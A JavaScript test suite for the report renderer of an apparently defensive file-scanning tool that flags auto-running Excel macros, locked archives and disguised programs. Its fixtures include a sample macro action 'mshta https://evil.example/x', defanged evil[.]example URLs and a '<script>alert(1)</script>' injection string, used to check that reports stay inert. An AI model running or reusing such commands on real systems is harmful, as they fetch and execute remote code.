import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { before, test } from "node:test";
import { defaults } from "./config.js";
import { CHECK_STATES, isReport } from "./protocol.js";
import { h } from "./nodes.js";
import { renderReport } from "./report.js";
import { reportText } from "./report-text.js";
import { catalogue, fakeDocument, sampleReport } from "./testing/samples.js";
import { ID_VALUES, Words } from "./words.js";

before(fakeDocument);

const languages = ["ja", "en"];
const wordsOf = (/** @type {string} */ code) => new Words(catalogue(code), code);
/** @returns {any} */
const render = (/** @type {any} */ report, code = "ja", config = defaults()) => renderReport(report, wordsOf(code), config);

test("h sets text, never markup; a handler must be a function and only a handler may be one", () => {
  const node = h("p", { title: "<b>" }, "<script>alert(1)</script>");
  assert.equal(node.textContent, "<script>alert(1)</script>");
  assert.equal(node.byTag("script").length, 0);
  assert.throws(() => h("p", { onclick: "alert(1)" }));
  assert.throws(() => h("p", { title: () => {} }));
});

for (const code of languages) {
  test(`${code}: verdict first, in its exact words`, () => {
    const article = render(sampleReport(), code);
    const { heading, line } = catalogue(code).verdict.stop;
    assert.equal(article.byTag("h2")[0].textContent, heading);
    assert.ok(article.byClass("verdict-line")[0].textContent === line);
    assert.equal(article.byClass("badge").length, 1, "incomplete is shown beside a stop");
    assert.match(article.byClass("verdict-counts")[0].textContent, /5.*1/);
  });

  test(`${code}: every word comes from the catalogue`, () => {
    const report = sampleReport();
    for (const id of Object.keys(catalogue(code).finding)) {
      report.findings.push({ id, severity: "notice", artifact: 1, advice: null, values: {}, evidence: [], more: 0 });
    }
    const text = render(report, code).textContent + reportText(report, wordsOf(code), defaults());
    // The copied report names the ids of findings, in brackets, for the help desk.
    const missing = text.replace(/\[[a-z.-]+\]/g, "").match(/(page|finding|advice|verdict|status|status-why|class|severity|report|opened)\.[a-z-]+|\{\w+\}/g);
    assert.deepEqual(missing, null);
  });
}

/** Reports of the engine itself, from its own tests. */
const goldens = new URL("../tests/golden/", import.meta.url);
const goldenNames = readdirSync(goldens).filter((name) => name.endsWith(".json"));
const golden = (/** @type {string} */ name) => JSON.parse(readFileSync(new URL(`${name}.json`, goldens), "utf8"));

/** What a finding may quote from the file; every other value is an id or a number and needs a word. */
const QUOTED = ["name", "names", "risky", "target", "sheet", "module", "ext", "command", "field", "pictures"];

/** Whether an id has a word of its own. @param {Words} words @param {string} section @param {string} id */
const hasWord = (words, section, id) => words.word(section, id).every((part) => !part.value);

test("every report the engine makes is accepted and has all its words, in both languages", () => {
  assert.ok(goldenNames.length > 30);
  for (const name of goldenNames) {
    const report = golden(name.slice(0, -5));
    assert.ok(isReport(report), name);
    for (const code of languages) {
      const words = wordsOf(code);
      for (const finding of report.findings) {
        const artifact = report.artifacts[finding.artifact];
        const says = `${name}: ${finding.id}`;
        const filled = words.values(finding, artifact);
        for (const part of ["title", "what", "why", "normal"]) {
          assert.ok(words.entry("finding", finding.id, part), says);
          for (const [, key] of words.entry("finding", finding.id, part)?.matchAll(/\{(\w+)\}/g) ?? []) assert.ok(finding.values[key ?? ""] !== undefined, `${says} gives no ${key}`);
        }
        for (const [key, value] of Object.entries(finding.values)) {
          if (QUOTED.includes(key)) continue;
          if (ID_VALUES.includes(key)) assert.ok(hasWord(words, key, value), `${says}: no word for ${key} ${value}`);
          else if (key === "type" && finding.id === "file.unsupported" && value !== artifact.format) assert.ok(words.entry("part", value) || words.entry("format", value), `${says}: no word for ${value}`);
          else if (key === "type") assert.ok(words.entry("format", value), `${says}: no word for ${value}`);
          else if (key === "size" || key === "ratio" || key === "tried") assert.doesNotMatch(words.parts(["page", "working"], { name: filled[key] }).map((part) => part.text).join(""), /\d{4}/, says);
          else assert.equal(key, "trigger", `${says}: nobody knows what ${key} is`);
          assert.ok(Array.isArray(filled[key]), `${says}: ${key} stays ${value}`);
        }
      }
      for (const id of report.advice) assert.ok(words.entry("advice", id), `${name}: advice ${id}`);
      for (const artifact of report.artifacts) if (artifact.format) assert.ok(words.entry("format", artifact.format), `${name}: format ${artifact.format}`);
      const text = render(report, code).textContent;
      assert.ok(text.length > 100);
      assert.doesNotMatch(text, /undefined|\[object/);
    }
  }
});

/** The engine's sources without their tests. @param {URL} folder @returns {string} */
const rust = (folder) => readdirSync(folder, { withFileTypes: true }).map((entry) => {
  if (entry.isDirectory()) return rust(new URL(`${entry.name}/`, folder));
  return entry.name.endsWith(".rs") && entry.name !== "tests.rs" ? readFileSync(new URL(entry.name, folder), "utf8").split("#[cfg(test)]")[0] : "";
}).join("\n");

test("every structure, part and method the engine can name has a word, also where no fixture fires it", () => {
  const source = rust(new URL("../crate/src/", import.meta.url));
  /** @param {RegExp} pattern */
  const ids = (pattern) => [...new Set([...source.matchAll(pattern)].map((match) => match[1] ?? ""))];
  /** @param {string} text source of one function */
  const arms = (text) => [...text.matchAll(/=> "([^"]+)"/g)].map((match) => match[1] ?? "");
  const body = (/** @type {string} */ name) => /** @type {string} */ (source.split(`fn ${name}(`)[1]).split("\n}")[0] ?? "";
  const found = {
    what: [...ids(/(?:malformed|irregular|lost|wrong)\(\s*"([^"]+)"/g), ...ids(/\.array(?:::<\w+>)?\([^;"]*?"([^"]+)"\)\?/g),
      ...ids(/Chain::(?:stream|open_ended)\([^;"]*"([^"]+)"/g), ...ids(/(?:damaged|irregular)\.push\(\([^;"]*"([^"]+)"\)/g), "overlap"],
    part: [...ids(/Unsupported\(\s*"([^"]+)"/g), ...arms(body("method_name")), "zip-method"],
    limit: arms(source.split("impl LimitKind")[1]?.split("\n}")[0] ?? ""),
    action: arms(source.split("impl ActionKind")[1]?.split("\n}")[0] ?? ""),
    check: [...(source.split("const CHECKS")[1]?.split("\n];")[0] ?? "").matchAll(/^    \("([a-z-]+)"/gm)].map((match) => match[1] ?? ""), "check-state": CHECK_STATES,
    story: [...arms(source.split("impl ActionKind")[1]?.split("\n}")[0] ?? ""), ...ids(/step\("(\w+)"/g)],
    where: ids(/look_at_gap\([^;"]*"([^"]+)"/g),
    scheme: [...ids(/encrypted\(scan, "([^"]+)"/g), ...ids(/"(xor|rc4|rc4-cryptoapi|agile|standard|extensible|rights-management|unknown)"/g)],
    kind: [...(source.split("let fetched = ")[1]?.split("_ => return")[0] ?? "").matchAll(/"(\w+)"/g)].map((match) => match[1] ?? ""),
  };
  for (const [section, minimum] of Object.entries({ what: 30, part: 12, limit: 6, action: 10, story: 13, where: 2, scheme: 8, kind: 10, check: 12, "check-state": 4 })) {
    const list = found[/** @type {keyof typeof found} */ (section)];
    assert.ok(new Set(list).size >= minimum, `${section}: only ${list}`);
    for (const code of languages) for (const id of list) {
      assert.ok(hasWord(wordsOf(code), section, id) || (section === "part" && wordsOf(code).entry("format", id)), `${code}: ${section} has no word for ${id}`);
    }
  }
});

/** A workbook in a folder of an archive in an archive, with a macro of its own making. @returns {any} */
const nested = () => {
  const artifact = (/** @type {any} */ rest) => ({ format: "zip", class: "archive", size: 1, sha256: null, status: "inspected", ...rest });
  const finding = (/** @type {any} */ rest) => ({ id: "vba.auto-run", severity: "hold", advice: "M2", values: { trigger: "Workbook_Open" }, evidence: [], more: 0, ...rest });
  return { ...sampleReport(), verdict: { level: "hold", incomplete: false, reasons: ["vba.auto-run"] }, advice: ["M2"],
    artifacts: [
      artifact({ id: 0, parent: null, name: "invoice.zip", origin: { kind: "input" } }),
      artifact({ id: 1, parent: 0, name: "inner.zip", origin: { kind: "entry", path: "inner.zip" } }),
      artifact({ id: 2, parent: 1, name: "請求書.xlsm", origin: { kind: "entry", path: "経理/請求書.xlsm" }, format: "xlsm", class: "document" }),
      artifact({ id: 3, parent: 2, name: "vbaProject.bin", origin: { kind: "part", path: "xl/vbaProject.bin" }, format: "vba-project", class: "data", status: "partial" }),
      artifact({ id: 4, parent: 0, name: "after@172", origin: { kind: "object", path: "after@172" }, format: "exe", class: "program" }),
    ],
    findings: [
      finding({ artifact: 3, evidence: [{ path: "VBA/ThisWorkbook", line: 3, offset: null, excerpt: "Private Sub" }] }),
      finding({ artifact: 3, id: "vba.present", severity: "notice", values: {} }),
      finding({ artifact: 4, id: "type.program", severity: "stop", values: { type: "exe" } }),
    ] };
};

test("a part is told as the document it belongs to, with what the document lies in; its path is evidence", () => {
  const article = render(nested());
  const trail = "請求書.xlsm（invoice.zip › inner.zip › 経理 の中）";
  assert.equal(article.byClass("verdict-inner")[0].textContent, trail);
  const item = article.byClass("finding").find((/** @type {any} */ li) => li.attributes["data-finding"] === "vba.auto-run");
  assert.equal(item.byTag("dd")[0].textContent, `${trail}マクロ付き Excel ブック`);
  assert.equal(item.byClass("evidence-place")[0].textContent, "xl/vbaProject.bin › VBA/ThisWorkbook 3 行目");
  const without = article.byClass("finding").find((/** @type {any} */ li) => li.attributes["data-finding"] === "vba.present");
  assert.equal(without.byClass("evidence-place")[0].textContent, "xl/vbaProject.bin");
  assert.ok(article.byClass("not-looked")[0].textContent.includes(`${trail}マクロ付き Excel ブックxl/vbaProject.bin`));
  assert.ok(reportText(nested(), wordsOf("ja"), defaults()).includes(`[vba.auto-run] ${trail} › xl/vbaProject.bin: `));
  assert.ok(render(nested(), "en").byClass("verdict-inner")[0].textContent.includes("請求書.xlsm (in invoice.zip › inner.zip › 経理)"));
});

test("a part of the dropped file itself needs no name in the card", () => {
  const report = golden("docm-auto-run");
  const article = render(report);
  assert.equal(article.byClass("verdict-inner").length, 0);
  assert.ok(article.byClass("found")[0].byTag("dd")[0].textContent.startsWith("report.docm"));
  assert.ok(!article.byClass("verdict")[0].textContent.includes("vbaProject.bin"));
});

test("data between the entries of an archive has a name in words", () => {
  const item = render(nested(), "en").byClass("finding")[0];
  assert.equal(item.byTag("dd")[0].textContent, "data at the end (in invoice.zip)program (exe)");
});

test("a long way in is cut from the outside", () => {
  const report = nested();
  report.artifacts = Array.from({ length: 6 }, (_, id) => ({ ...report.artifacts[1], id, parent: id === 0 ? null : id - 1, name: `${id}.zip`, origin: { kind: id === 0 ? "input" : "entry", path: `${id}.zip` } }));
  report.findings = [{ ...report.findings[0], artifact: 5 }];
  assert.equal(render(report, "en").byClass("verdict-inner")[0].textContent, "5.zip (in … › 2.zip › 3.zip › 4.zip)");
});

for (const code of languages) {
  test(`${code}: what is locked has the kind its name claims, or none`, () => {
    const words = wordsOf(code);
    const claimed = render(golden("zip-locked-program"), code);
    const row = claimed.byClass("not-looked")[0].byClass("file-kind")[0].textContent;
    assert.equal(row, words.page("claims", { type: words.format("exe") }));
    const plain = render(golden("zip-locked"), code);
    assert.ok(plain.byClass("not-looked").length === 1);
    assert.equal(plain.byClass("not-looked")[0].byClass("file-kind").length, 0);
    for (const article of [claimed, plain]) {
      const details = article.byClass("technical")[0];
      details.open = true;
      details.listeners.toggle();
      assert.ok(!article.textContent.includes(words.text(["class", "unknown"])));
    }
    const packed = render(golden("zip-unknown-method"), code);
    assert.ok(!packed.textContent.includes(words.text(["class", "unknown"])), "nobody could look at it");
    // What was looked at and recognised as nothing is of unknown type.
    assert.ok(render(golden("unknown-file"), code).textContent.includes(words.text(["class", "unknown"])));
  });

  test(`${code}: a size is one a person can compare`, () => {
    const text = render(golden("zip-padded"), code).byClass("found")[0].textContent;
    assert.ok(text.includes("130 MB"));
    assert.doesNotMatch(text, /136,?314,?880/);
  });
}

test("an id the catalogue does not know stands in brackets, isolated, and never alone", () => {
  const report = sampleReport();
  report.findings = [
    { id: "file.malformed", severity: "unchecked", artifact: 0, advice: "D1", values: { what: "New\u202EStructure" }, evidence: [], more: 0 },
    { id: "file.unsupported", severity: "unchecked", artifact: 0, advice: null, values: { type: "new-method" }, evidence: [], more: 0 },
  ];
  const [malformed, unsupported] = render(report, "en").byClass("finding");
  assert.ok(malformed.textContent.includes("another part (NewU+202EStructure)"));
  assert.ok(malformed.byTag("bdi").some((/** @type {any} */ bdi) => bdi.textContent.includes("Structure")));
  assert.ok(unsupported.textContent.includes("part of the content (new-method)"));
});

test("at most three actions come first", () => {
  const article = render(sampleReport());
  const actions = article.byClass("actions")[0];
  assert.deepEqual(actions.byTag("ol")[0].children.map((/** @type {any} */ li) => li.attributes["data-advice"]), ["B1", "M3", "E1"]);
  assert.deepEqual(actions.byTag("ul")[0].children.map((/** @type {any} */ li) => li.attributes["data-advice"]), ["B2", "B4"]);
});

test("the gravest finding comes first; remarks without weight only in the details", () => {
  const ids = render(sampleReport()).byClass("finding").map((/** @type {any} */ li) => li.attributes["data-finding"]);
  assert.deepEqual(ids, ["vba.auto-run-acts", "archive.encrypted"]);
});

for (const code of languages) {
  test(`${code}: every step of the story leads to its evidence`, () => {
    const report = sampleReport();
    const steps = render(report, code).byClass("story")[0].find((/** @type {any} */ node) => node.attributes["data-step"]);
    const [opened, , starts, runs] = steps.map((/** @type {any} */ step) => step.byTag("details")[0].textContent);
    assert.ok(opened.includes(report.artifacts[0].sha256));
    assert.ok(starts.includes("Private Sub Workbook_Open()") && starts.includes("VBA/ThisWorkbook"));
    assert.ok(runs.includes("CreateObject(x).Run y"));
  });

  test(`${code}: the code of macros is inert, numbered, and marked where it acts`, () => {
    const details = render(sampleReport(), code).byClass("technical")[0];
    assert.equal(details.byTag("mark").length, 0, "made when it is opened");
    for (const name of ["technical", "listings", "listing"]) {
      const [one] = name === "technical" ? [details] : details.byClass(name);
      one.open = true;
      one.listeners.toggle();
    }
    const [code_] = details.byClass("code");
    assert.equal(code_.byTag("script").length + details.byClass("listing")[0].byTag("b").length, 0);
    const marked = code_.byTag("mark").map((/** @type {any} */ mark) => mark.textContent);
    assert.deepEqual(marked.map((/** @type {string} */ line) => line.trim()), ["▶  2  Private Sub Workbook_Open()", "▶  3  CreateObject(x).Run y ' hxxps://evil[.]example/c"]);
    assert.equal(code_.textContent.split("\n").length, 5, "four lines, and the end of the last");
    assert.ok(code_.textContent.includes("U+202E"));
    assert.ok(details.byClass("listing")[0].textContent.includes(wordsOf(code).page("listings-cut")));
    assert.ok(details.byClass("listings")[0].textContent.includes(wordsOf(code).page("acts-more", { n: "3" })));
  });

  test(`${code}: the table of checks has a row and words for each`, () => {
    const [details] = render(sampleReport(), code).byClass("checks");
    details.open = true;
    details.listeners.toggle();
    const rows = details.find((/** @type {any} */ node) => node.attributes["data-check"]);
    assert.deepEqual(rows.map((/** @type {any} */ row) => row.attributes["data-state"]), ["done", "partly", "not-done", "not-applicable"]);
    assert.ok(rows.every((/** @type {any} */ row) => row.byTag("td").every((/** @type {any} */ td) => td.textContent.length > 2)));
  });

  test(`${code}: the story is told in order, in words, and inert`, () => {
    const report = sampleReport();
    report.story.push({ step: "new-step", artifact: 1, detail: "x".repeat(900) });
    const [story] = render(report, code).byClass("story");
    const steps = story.find((/** @type {any} */ node) => node.attributes["data-step"]);
    assert.deepEqual(steps.map((/** @type {any} */ li) => li.attributes["data-step"]), ["open", "inside", "start", "run", "download", "new-step"]);
    assert.ok(steps[1].textContent.includes(".xlsm"));
    assert.ok(steps[2].textContent.includes("Workbook_Open"));
    assert.ok(steps[3].textContent.includes("U+202E") && steps[3].textContent.includes("hxxps://evil[.]example/b"));
    assert.ok(steps[5].byTag("summary")[0].textContent.length < 300);
    assert.equal(story.byTag("b").length, 0);
    assert.doesNotMatch(story.textContent, /undefined|\[object|story\./);
    report.story = [];
    assert.equal(render(report, code).byClass("story").length, 0);
  });
}

test("what the code can do is listed when it is asked for", () => {
  const [doings] = render(sampleReport(), "en").byClass("doings");
  assert.equal(doings.byTag("li").length, 0);
  doings.open = true;
  doings.listeners.toggle();
  assert.deepEqual(doings.find((/** @type {any} */ node) => node.attributes["data-action"]).map((/** @type {any} */ li) => li.attributes["data-action"]), ["run", "download"]);
  assert.ok(doings.textContent.includes("4 more were left out."));
  assert.ok(doings.textContent.includes("hxxps://evil[.]example/b"));
});

test("names and excerpts are isolated, visible and never links", () => {
  const article = render(sampleReport());
  assert.ok(article.byClass("verdict-file")[0].textContent.includes("U+202E"));
  assert.ok(article.byClass("verdict-file")[0].byTag("bdi").length === 1);
  assert.ok(article.byClass("found")[0].byTag("pre")[0].textContent.includes("hxxps://evil[.]example/a"));
  assert.equal(article.byTag("a").length, 0);
  assert.equal(article.byTag("img").length, 0);
  assert.ok(!article.textContent.includes("\u202E"));
  for (const details of article.byTag("details")) assert.equal(details.attributes.open, undefined, "contents take a deliberate step");
});

test("the technical table is made when it is opened, once", () => {
  const details = render(sampleReport()).byClass("technical")[0];
  assert.equal(details.byTag("table").length, 0);
  details.open = true;
  details.listeners.toggle();
  details.listeners.toggle();
  assert.equal(details.byTag("table").length, 1);
  assert.ok(details.textContent.includes("ab".repeat(32)));
});

test("thousands of parts do not become thousands of rows at once", () => {
  const report = sampleReport();
  for (let id = 2; id < 5000; id++) report.artifacts.push({ ...report.artifacts[1], id, parent: id - 1 });
  assert.ok(render(report).all.length < 2000);
});

test("advice takes its values from the finding that asks for it, and the contact from the configuration", () => {
  const report = sampleReport();
  report.advice = ["F2", "B4"];
  report.findings = [{ id: "name.extension-mismatch", severity: "hold", artifact: 0, advice: "F2", values: { ext: ".pdf", type: "no-such-format" }, evidence: [], more: 0 }];
  const config = defaults();
  config.helpdesk.name.en = "Desk <b>7</b>";
  config.helpdesk.tel = "+81 3-0000-0000";
  const article = render(report, "en", config);
  const text = article.byClass("actions")[0].textContent;
  assert.ok(text.includes("It says .pdf, but the content says: archive."));
  assert.ok(text.includes("tell Desk <b>7</b>"));
  assert.equal(article.byTag("a")[0].attributes.href, "tel:+81300000000");
});

for (const code of languages) {
  test(`${code}: the copied report is inert and complete`, () => {
    const text = reportText(sampleReport(), wordsOf(code), defaults());
    for (const part of ["[U+202E]", "ab".repeat(32), "[vba.auto-run-acts]", "2026-11-22", catalogue(code).verdict.stop.heading]) {
      assert.ok(text.includes(part), part);
    }
    assert.ok(!text.includes("\u202E"));
    assert.ok(!/https?:\/\//.test(text));
    assert.ok(!text.includes("Shell"), "no bytes of the file");
  });
}

test("the copied report has what an analyst decides by: the gravest first, lines, hashes inside, commands, what was not checked, the time", () => {
  const report = nested();
  report.artifacts[2].sha256 = "cd".repeat(32);
  report.artifacts[4].sha256 = "ef".repeat(32);
  report.checks = { kinds: "done", codes: "not-done", macros: "partly", mail: "not-applicable" };
  report.story = [{ step: "start", artifact: 3, detail: "Workbook_Open", at: { path: "VBA/ThisWorkbook", line: 3, offset: null, excerpt: "x" } },
    { step: "run", artifact: 3, detail: "calc", at: { path: "VBA/ThisWorkbook", line: 4, offset: null, excerpt: "x" } }];
  const act = { artifact: 3, kind: "run", automatic: true, trigger: "Workbook_Open", decoded: false, at: { path: "VBA/Module1", line: 2, offset: null, excerpt: "x" } };
  report.actions = [{ ...act, detail: "calc" }, { ...act, detail: "mshta https://evil.example/x", decoded: true }, { ...act, detail: "y".repeat(2001), automatic: false }];
  report.more_actions = 7;
  const words = wordsOf("ja");
  const text = reportText(report, words, defaults(), "2026-11-22 17:55:03 +09:00");
  const has = (/** @type {string} */ part) => assert.ok(text.includes(part), `${part}\n${text}`);
  has("調べた日時：2026-11-22 17:55:03 +09:00");
  has("[xl/vbaProject.bin › VBA/ThisWorkbook 3 行目]");
  assert.ok(text.indexOf("(開かない) [type.program]") > 0 && text.indexOf("(開かない) [type.program]") < text.indexOf("(確認が必要) [vba.auto-run]"), "gravest first");
  has(`[VBA/ThisWorkbook 3 行目]`);
  assert.ok(text.indexOf("ef".repeat(32)) < text.indexOf("cd".repeat(32)), "hashes: the gravest first, a document by its parts");
  has(`${"cd".repeat(32)} 請求書.xlsm（invoice.zip`);
  assert.equal(text.split("calc").length, 2, "what the steps tell is not told again");
  has("mshta hxxps://evil[.]example/x");
  has("[VBA/Module1 2 行目]");
  has(`${"y".repeat(2000)}…`);
  has(words.page("acts-more", { n: "7" }));
  has("画像の中の QR コード: 調べていません");
  assert.ok(!text.includes("メールの差出人"));
  // Long lists say how much they leave out.
  report.findings = Array.from({ length: 25 }, () => report.findings[0]);
  assert.ok(reportText(report, words, defaults()).includes(words.text(["report", "more"], { n: "5" })));
});

test("of thousands of findings and parts only the first are made, and the next when they are asked for", () => {
  const report = sampleReport();
  const [, part] = report.artifacts;
  for (let id = 2; id < 3000; id++) report.artifacts.push({ ...part, id });
  report.findings = report.artifacts.flatMap(({ id }) => [{ ...report.findings[1], artifact: id }, { ...report.findings[2], artifact: id }]);
  const article = render(report, "en");
  assert.ok(article.all.length < 2000, `${article.all.length} nodes`);
  const more = article.byClass("found")[0].byClass("more")[0];
  assert.match(more.textContent, /2,995/);
  more.fill();
  assert.equal(more.byClass("finding").length, 200);
  const next = more.byClass("more").at(-1);
  assert.match(next.textContent, /2,795/);
  next.fill();
  assert.equal(more.byClass("finding").length, 400);
  article.byClass("technical")[0].fill();
  assert.equal(article.byClass("technical")[0].byTag("tr").length, 201);
  const text = reportText(report, wordsOf("en"), defaults());
  assert.ok(text.length < 20_000, `${text.length} letters`);
});

test("what was ticked as done stands in the report", () => {
  for (const code of languages) {
    const words = wordsOf(code);
    const says = (/** @type {string[]} */ ...acts) => reportText(sampleReport(), words, defaults(), "", new Set(acts));
    const box = (/** @type {string} */ how, /** @type {string} */ act) => words.text(["report", how], { act: words.text(["report", act]) });
    for (const act of ["not-opened", "opened", "editing", "content", "ran", "pasted", "typed", "qr"]) assert.ok(says().includes(box("unticked", act)), act);
    const told = says("content", "password", "odd-mail");
    for (const act of ["content", "typed"]) assert.ok(told.includes(box("ticked", act)), act);
    assert.ok(told.includes(box("unticked", "not-opened")) && told.includes(box("unticked", "ran")));
  }
});

test("the report says by which kind of password something was opened, and never the password", () => {
  const report = sampleReport();
  assert.ok(!reportText(report, wordsOf("en"), defaults()).includes("Password:"));
  report.artifacts[1].password = "found";
  assert.ok(reportText(report, wordsOf("en"), defaults()).includes(`\nPassword: ${catalogue("en").unlocked.found}\n`));
});

test("the heading of a result is told with its file and its reason", () => {
  const described = (/** @type {any} */ article) => article.byTag("h2")[0].attributes["aria-describedby"].split(" ")
    .map((/** @type {string} */ id) => article.find((/** @type {any} */ node) => node.attributes.id === id)[0].attributes.class);
  const [first, second] = [render(sampleReport()), render(sampleReport())];
  assert.deepEqual(described(first), ["verdict-file", "verdict-reason"]);
  assert.notEqual(first.attributes["aria-labelledby"], second.attributes["aria-labelledby"], "each result has names of its own");
  assert.deepEqual(described(render(golden("docx-honest"))), ["verdict-file"], "no reason, nothing that is not there");
});

test("what was not looked into says its own reason", () => {
  const why = (/** @type {string} */ name) => render(golden(name), "en").byClass("why").map((/** @type {any} */ node) => node.textContent);
  assert.deepEqual(why("type-eml"), ["What we cannot look inside yet: mail message"]);
  assert.deepEqual([...new Set(why("zip-locked"))], [catalogue("en")["status-why"].locked], "what is said of the archive is not said of each of its files");
});

test("the number to call is the number alone", () => {
  const calls = (/** @type {string} */ tel) => {
    const config = defaults();
    config.helpdesk.tel = tel;
    const article = render(sampleReport(), "ja", config);
    assert.ok(article.byClass("contact")[0].textContent.includes(tel));
    return article.byTag("a")[0]?.attributes.href;
  };
  assert.equal(calls("06-1234-5678"), "tel:0612345678");
  assert.equal(calls("06-1234-5678 (内線 119)"), "tel:0612345678");
  assert.equal(calls("(06) 1234-5678（内線119）"), "tel:0612345678");
  assert.equal(calls("０６－１２３４－５６７８"), "tel:0612345678");
  assert.equal(calls("+81 (0)6 1234 5678 ext. 119"), "tel:+81612345678");
  assert.equal(calls("#9110"), "tel:#9110");
  assert.equal(calls("内線 119"), undefined);
});

test("the paper names the file, the gravest inside and the time", () => {
  const report = nested();
  for (const artifact of report.artifacts) artifact.sha256 = String(artifact.id).repeat(64);
  const text = renderReport(report, wordsOf("ja"), defaults(), [], null, [], "2026-11-22 17:55:03 +09:00").byClass("identity")[0].textContent;
  for (const part of ["0".repeat(64), "4".repeat(64), "2".repeat(64), "2026-11-22 17:55:03 +09:00"]) assert.ok(text.includes(part), part);
  assert.ok(!text.includes("1".repeat(64)), "an archive in between is not the gravest");
});

test("the place for the password comes before the findings; what was typed last is still there", () => {
  const report = golden("zip-locked");
  const article = renderReport(report, wordsOf("ja"), defaults(), [], { tried: 1, typed: "２０２６", use: () => {} });
  const order = article.children.map((/** @type {any} */ node) => node.attributes.class);
  assert.ok(order.indexOf("unlock") > 0 && order.indexOf("unlock") < order.indexOf("found"), String(order));
  assert.equal(article.byTag("textarea")[0].textContent, "２０２６");
  assert.equal(render(report).byClass("unlock").length, 0, "none in what is saved");
});

for (const code of languages) {
  test(`${code}: a mail that was not looked into leads to its attachment`, () => {
    const says = catalogue(code).page["mail-unread"];
    assert.equal(render(golden("type-eml"), code).byClass("mail-unread")[0].textContent, says);
    const read = golden("type-eml");
    read.artifacts[0].status = "inspected";
    for (const report of [read, golden("zip-locked")]) assert.equal(render(report, code).byClass("mail-unread").length, 0);
  });
}

for (const code of languages) {
  test(`${code}: a known file is told beside its verdict, and so is a drill; the words stay inert`, () => {
    const config = defaults();
    config.training = true;
    config.org.en = "Sample Ltd";
    config.known_files = [{ sha256: "ab".repeat(32), label: { ja: "見本 <b>", en: "Sample <b>" } }];
    const article = render(sampleReport(), code, config);
    assert.equal(article.byTag("h2")[0].textContent, catalogue(code).verdict.stop.heading);
    assert.match(article.byClass("known")[0].textContent, /<b>/);
    assert.equal(article.byTag("b").length, 0);
    assert.equal(article.byClass("training")[0].textContent, catalogue(code).page.training);
    const text = reportText(sampleReport(), wordsOf(code), config);
    assert.ok(text.startsWith(catalogue(code).report.training));
    assert.match(text, /<b>/);
    assert.equal(render(sampleReport(), code).byClass("known").length + render(sampleReport(), code).byClass("training").length, 0);
  });
}
